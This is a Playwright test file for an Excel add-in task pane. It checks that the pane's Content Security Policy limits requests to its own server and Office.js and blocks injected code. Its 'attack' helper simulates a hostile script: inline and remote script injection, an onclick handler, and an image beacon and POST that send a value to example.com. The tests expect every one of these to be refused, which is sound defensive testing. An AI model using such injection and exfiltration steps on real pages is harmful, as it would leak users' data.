import { existsSync } from "node:fs";
import path from "node:path";
import { chromium, type Browser, type Page, type Request } from "playwright-core";
import { needs } from "../tools/needs";
import { repository } from "../tools/sources";
import { chromiumFlags, requireTool } from "../tools/tools.mjs";
import { serveAddin, type ServedAddin } from "./support/addin";
import { PATIENCE } from "./support/eventually";

const CDN = "https://appsforoffice.microsoft.com/lib/1/hosted/";
const CLIENT = path.join(repository, "node_modules/@microsoft/office-js/dist");

/** Where Microsoft's client sends what it measures; the page forbids it. */
const TELEMETRY = /^https:\/\/telemetryservice\.firstpartyapps\.oaspapps\.com\//;

/** As the server of Excel calls the pane; without it a browser does. */
const EXCELS = [
  ["a browser", ""],
  ["Excel on Windows", "?_host_Info=Excel$Win32$16.01$zh-CN$$$$0"],
  ["Excel on the web", "?_host_Info=Excel$Web$16.01$zh-CN$$$$0"],
] as const;

interface Visit {
  /** Every address that was asked for, but for those that the page's policy refused. */
  readonly asked: readonly string[];
  /** What the page's policy refused: directive and what was refused. */
  readonly refused: readonly (readonly [string, string])[];
}

/** The CDN's answers come from the copy that npm installed: no test asks anybody outside. */
const answerForTheCdn = async (page: Page): Promise<void> => {
  await page.route(`${CDN}**`, (route) => {
    const file = path.join(CLIENT, new URL(route.request().url()).pathname.slice(new URL(CDN).pathname.length));
    return existsSync(file)
      ? route.fulfill({ path: file, headers: { "Access-Control-Allow-Origin": "*" } })
      : route.fulfill({ status: 404 });
  });
};

const keepRefusals = (): void => {
  const refused: [string, string][] = [];
  Object.assign(window, { refused });
  addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
    refused.push([effectiveDirective, blockedURI]);
  });
};

const refusals = (page: Page): Promise<[string, string][]> =>
  page.evaluate(() => (window as unknown as { refused: [string, string][] }).refused);

/** What somebody's script in the pane would try. */
const attack = (page: Page): Promise<void> =>
  page.evaluate(async () => {
    const script = document.createElement("script");
    script.textContent = "document.title = 'inline'";
    document.head.append(script);
    const other = document.createElement("script");
    other.src = "https://example.com/other.js";
    document.head.append(other);
    document.body.setAttribute("onclick", "document.title = 'handler'");
    document.body.click();
    new Image().src = "https://example.com/figures?total=7138.12";
    await fetch("https://example.com/", { method: "POST", body: "7138.12" }).catch(() => undefined);
  });

/** The pane as it is deployed, over http: the client gets at its own code, and nobody at anything else. */
describe.each([
  ["global", CDN],
  ["self", undefined],
])("The pane built with OFFICE_JS=%s", (officeJs, elsewhere) => {
  const step = needs("chromium");
  let opened: Promise<readonly [ServedAddin, Browser]> | undefined;
  const open = (): Promise<readonly [ServedAddin, Browser]> =>
    (opened ??= Promise.all([
      serveAddin(officeJs),
      chromium.launch({ executablePath: requireTool("chromium"), args: [...chromiumFlags] }),
    ]));
  afterAll(async () => {
    const [served, browser] = (await opened) ?? [];
    await browser?.close();
    await served?.stop();
  });

  const visit = async (query: string, act: (page: Page) => Promise<void>): Promise<Visit> => {
    const [{ home }, browser] = await open();
    const page = await browser.newPage({ locale: "zh-CN" });
    page.setDefaultTimeout(PATIENCE);
    const asked = new Set<Request>();
    page.on("request", (request) => asked.add(request));
    page.on("requestfailed", (request) => {
      if (request.failure()?.errorText === "csp") asked.delete(request);
    });
    await answerForTheCdn(page);
    await page.addInitScript(keepRefusals);
    await page.goto(`${home}taskpane.html${query}`, { waitUntil: "networkidle" });
    await act(page);
    const refused = await refusals(page);
    await page.close();
    return { asked: [...asked].map((request) => request.url().replace(home, "")), refused };
  };

  /** What is left of an address of the pane's own server is a path. */
  const isOurs = (url: string): boolean =>
    !/^[a-z]+:/.test(url) || url.startsWith("data:") || (elsewhere !== undefined && url.startsWith(elsewhere));

  step.each(EXCELS)(
    "asks its own server and Office.js for everything in %s, and runs no script of its page",
    async (_, query) => {
      const { asked, refused } = await visit(query, () => Promise.resolve());
      expect(asked.filter((url) => !isOurs(url))).toEqual([]);
      expect(asked).toContain(`${elsewhere ?? "office-js/"}office.js`);
      expect(refused.filter(([directive, url]) => directive !== "frame-src" || !TELEMETRY.test(url))).toEqual([]);
    },
  );

  step("says in a browser that it found no Excel", async () => {
    await visit("", (page) => page.getByText("没有连上 Excel").waitFor());
  });

  step("forbids scripts in its page, scripts from elsewhere, and sending anything", async () => {
    let [title, policy]: [string, string | null] = ["", ""];
    const { asked, refused } = await visit("", async (page) => {
      await attack(page);
      title = await page.title();
      policy = await page.locator("meta[http-equiv=Content-Security-Policy]").getAttribute("content");
    });
    expect(title).toBe("自评通");
    expect(policy).toContain(`; script-src 'self'${elsewhere === undefined ? "" : ` ${new URL(elsewhere).origin}`}; `);
    expect(asked.filter((url) => url.includes("example.com"))).toEqual([]);
    const directives = refused.map(([directive]) => directive).filter((directive) => directive !== "frame-src");
    expect(new Set(directives)).toEqual(new Set(["script-src-elem", "script-src-attr", "img-src", "connect-src"]));
  });
});
